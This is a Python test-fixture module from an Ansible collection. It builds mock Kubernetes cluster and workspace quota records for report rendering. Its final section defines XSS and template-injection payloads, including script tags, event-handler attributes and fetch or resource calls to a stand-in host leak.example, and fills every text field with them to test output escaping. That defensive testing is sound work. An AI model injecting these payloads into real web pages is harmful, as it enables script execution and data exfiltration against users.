# Copyright: (c) 2026, acmp.middleware contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Clusters and workspaces as their info functions return them: a small house, and one with hundreds of workspaces."""

from __future__ import annotations

import random
from fractions import Fraction

from ansible_collections.acmp.middleware.plugins.module_utils.kube import quantities
from ansible_collections.acmp.middleware.plugins.module_utils.report import _shape

AT = "2026-11-21T09:30:00Z"
_TEAMS = (
    "orders", "billing", "search", "payments", "catalogue", "shipping", "identity", "reports", "mobile", "partners", "ledger", "pricing", "stock", "media",
    "chat", "fraud", "loyalty", "returns", "routing", "telemetry", "archive", "studio", "claims", "insight", "portal", "forms", "mail", "tax", "labs", "edge",
)
_STAGES = ("prod", "staging", "test", "dev", "perf", "training")
_SHARES = (0.12, 0.2, 0.28, 0.35, 0.41, 0.47, 0.52, 0.58, 0.63, 0.69, 0.74, 0.78)


def cluster(name: str, nodes: int = 3, cores: int = 16, gi: int = 64, claimed: int = 900, busy: float = 0.5, **more) -> dict:
    def amounts(whole: int, step: Fraction, used: str | None = "0.62") -> dict:
        requested = whole * step * Fraction(str(busy))
        taken = None if used is None else requested * Fraction(used)
        found = {"allocatable": whole * step, "requested": requested, "used": taken, "free": whole * step - requested}
        return {key: None if value is None else quantities.text(round(value * 20 / step) * step / 20, binary=step > 1) for key, value in found.items()}

    count = int(nodes * 77 * busy)
    pods = {"allocatable": nodes * 110, "requested": count, "used": count, "free": nodes * 110 - count}
    resources = {
        "cpu": amounts(nodes * cores, Fraction(1)), "memory": amounts(nodes * gi, Fraction(2**30)),
        "ephemeral-storage": {"allocatable": f"{nodes * 400}Gi", "requested": "0", "used": None, "free": f"{nodes * 400}Gi"},
        "pods": {key: str(count) for key, count in pods.items()},
        "storage": {"allocatable": None, "requested": f"{claimed}Gi", "used": f"{claimed}Gi", "free": None},
    }
    return {
        "name": name, "description": "", "phase": "Ready", "message": "", "live": True, "version": "v1.34.2",
        "nodes": {"ready": nodes, "total": nodes}, "resources": resources, "observed_at": AT, "credential": {"warning": ""}, "instances": {"count": 0}, **more,
    }


def down(name: str, **more) -> dict:
    """As recorded, without what was not known."""
    found = cluster(name, **{
        "phase": "Unreachable", "live": False, "observed_at": "2026-11-20T22:14:03Z",
        "message": "connect to https://10.8.0.4:6443: timed out after 2 s", **more})
    found["resources"] = {key: {part: text for part, text in amounts.items() if text is not None} for key, amounts in found["resources"].items()}
    return found


def quota(name: str = "acmp", **pairs: tuple[str, str]) -> dict:
    """pairs: key: (used, hard), _ for a dot or a slash."""
    return _quota(name, {key.replace("__", "/").replace("_", "."): value for key, value in pairs.items()})


def _quota(name: str, pairs: dict[str, tuple[str, str]]) -> dict:
    def percent(used: str, hard: str) -> float | None:
        whole = quantities.parse(hard)
        return round(float(quantities.parse(used) * 100 / whole), 1) if whole else None

    return {
        "name": name, "hard": {key: hard for key, (_used, hard) in pairs.items()}, "used": {key: used for key, (used, _hard) in pairs.items()},
        "percent": {key: percent(*pair) for key, pair in pairs.items()},
    }


def workspace(name: str, *quotas: dict, cluster: str = "local", project: str = "default", instances: int | None = 1, **more) -> dict:
    return {
        "name": name, "cluster": cluster, "project": project, "description": "", "state": "Active", "quota": quotas[0] if quotas else None,
        "other_quotas": list(quotas[1:]), "instances": instances, "credential": {"days_left": 6.2}, **more,
    }


def few() -> tuple[list[dict], list[dict]]:
    clusters = [
        cluster("local", 3, 16, 64, 420, busy=0.46, description="Where the platform lives, for tests as well"),
        cluster("factory-north", 6, 32, 128, 3870, busy=0.71, description="Production, hall 2", version="v1.33.6"),
    ]
    clusters[1]["nodes"]["ready"] = 5
    clusters[1]["message"] = "1 of 6 nodes are not ready"
    clusters[1]["resources"]["nvidia.com/gpu"] = {"allocatable": "8", "requested": "6", "used": None, "free": "2"}
    spaces = [
        workspace("orders-prod", quota(
            requests_cpu=("14500m", "16"), limits_cpu=("30", "32"), requests_memory=("58Gi", "64Gi"), limits_memory=("62Gi", "64Gi"),
            requests_storage=("1228Gi", "2Ti"), persistentvolumeclaims=("18", "40"), pods=("41", "80"), services=("22", "40")),
            cluster="factory-north", project="orders", instances=9, description="Orders and stock of both shops"),
        workspace("orders-test", quota(
            requests_cpu=("1500m", "4"), limits_cpu=("3", "8"), requests_memory=("5632Mi", "16Gi"), requests_storage=("40Gi", "200Gi"), pods=("12", "40")),
            project="orders", instances=4, description="What comes next for orders"),
        workspace("billing-prod", quota(
            requests_cpu=("6", "8"), limits_cpu=("12", "16"), requests_memory=("27Gi", "32Gi"), limits_memory=("40Gi", "64Gi"),
            requests_storage=("380Gi", "1Ti"), persistentvolumeclaims=("9", "20"), pods=("19", "40")),
            cluster="factory-north", project="billing", instances=5, description="开票系统 invoices and reminders"),
        workspace("vision", _quota("acmp", {
            "requests.cpu": ("21", "48"), "requests.memory": ("96Gi", "192Gi"), "requests.storage": ("2Ti", "4Ti"),
            "fast.storageclass.storage.k8s.io/requests.storage": ("780Gi", "1Ti"), "requests.nvidia.com/gpu": ("6", "8"), "pods": ("14", "60")}),
            cluster="factory-north", project="vision", instances=2, description="Learns to see faults in castings"),
        workspace("sandbox", instances=1, description="For trying things, without a promise"),
    ]
    return _counted(clusters, spaces)


def many(count: int = 500) -> tuple[list[dict], list[dict]]:
    dice = random.Random(count)
    names = ["local", "north", "south", "harbour", "lab-gpu", "far-east"]
    loads = {"north": 0.82, "south": 0.64, "harbour": 0.38, "local": 0.31, "lab-gpu": 0.57}
    clusters = [
        cluster(name, 12 + 4 * place, 32, 128, 20000 + 7000 * place, busy=busy, version=f"v1.3{4 - place % 2}.{place}")
        for place, (name, busy) in enumerate(loads.items())
    ]
    clusters[4]["resources"]["nvidia.com/gpu"] = {"allocatable": "64", "requested": "41", "used": None, "free": "23"}
    clusters.append(down("far-east", resources={}, description="Branch office"))
    spaces = []
    for place in range(count):
        team, stage = _TEAMS[int(dice.random() ** 1.5 * len(_TEAMS))], _STAGES[place % len(_STAGES)]
        size = dice.choice((2, 4, 4, 8, 8, 16, 32))
        share = dice.choice(_SHARES) * dice.uniform(0.7, 1.05) if dice.random() > 0.06 else dice.uniform(0.84, 1)
        where = dice.choice(names[:5]) if place % 97 else "far-east"
        name = f"{team}-{stage}-{place // len(_STAGES)}"
        if where == "far-east":
            spaces.append(_shape.unknown(where, team, name))
            continue
        spaces.append(workspace(
            name, *([] if place % 61 == 7 else [_bounded(dice, size, share)]), cluster=where, project=team, instances=dice.randint(0, 9),
            state="Terminating" if place == 123 else "Active"))
    return _counted(clusters, spaces)


def _counted(clusters: list[dict], spaces: list[dict]) -> tuple[list[dict], list[dict]]:
    for item in clusters:
        item["instances"] = {"count": sum(space["instances"] or 0 for space in spaces if space["cluster"] == item["name"])}
    return clusters, spaces


def _bounded(dice: random.Random, size: int, share: float) -> dict:
    def part(bound: float) -> float:
        return min(bound * share * dice.uniform(0.55, 1), bound)

    def gi(bound: int) -> tuple[str, str]:
        return f"{int(part(bound * 1024))}Mi", f"{bound}Gi"

    def whole(bound: int) -> tuple[str, str]:
        return str(int(part(bound))), str(bound)

    return _quota("acmp", {
        "requests.cpu": (f"{int(part(size) * 20) * 50}m", str(size)), "limits.cpu": (f"{int(part(size * 2) * 20) * 50}m", str(size * 2)),
        "requests.memory": gi(size * 4), "limits.memory": gi(size * 6), "requests.storage": gi(size * 25), "pods": whole(size * 5),
        "persistentvolumeclaims": whole(size * 3),
    })


RUN = "document.documentElement.setAttribute('data-ran','1');fetch('http://leak.example/run')"
ATTACKS = (
    f"<script>{RUN}</script>", f'"><img src=x onerror="{RUN}">', f"</style><script>{RUN}</script>", f"</title></td></table><svg onload=\"{RUN}\">",
    "<img src=http://leak.example/img>", '" style="background:url(http://leak.example/bg)" x="', "<link rel=stylesheet href=http://leak.example/css>",
    f"<details open ontoggle=\"{RUN}\"><summary>x</summary></details>", "{{constructor.constructor('alert(1)')()}}", "a\x1b[31mb\u202ec\x00d\ud800\n",
)


def hostile(count: int = 5) -> dict:
    """A report whose every text is an attack."""
    clusters, spaces = many(count) if count > 5 else few()
    for number, item in enumerate([*clusters, *spaces]):
        attack = ATTACKS[number % len(ATTACKS)]
        item |= {key: attack for key in ("description", "message", "version", "phase", "state") if key in item}
        if "credential" in item and "warning" in item["credential"]:
            item["credential"] = {"warning": attack}
        if "project" in item:
            item |= {"name": f"{attack}{number}", "project": attack, "cluster": attack}
            for part in (item["quota"], *(item["other_quotas"] or ())):
                for field in ("hard", "used", "percent") if part else ():
                    part[field] = {**part[field], f"count/{attack}": {"hard": "10", "used": "10", "percent": 100.0}[field]}
        else:
            item |= {"name": attack, "observed_at": attack, "live": number % 2 == 0}
            item["resources"] = {**item["resources"], attack: {"allocatable": "8", "requested": "6", "used": None, "free": "2"}}
    return _shape.build(clusters, spaces, f"{AT}{ATTACKS[1]}", [ATTACKS[0]])


def report(clusters: list[dict], spaces: list[dict], made_at: str = AT) -> dict:
    return _shape.build(clusters, spaces, made_at)
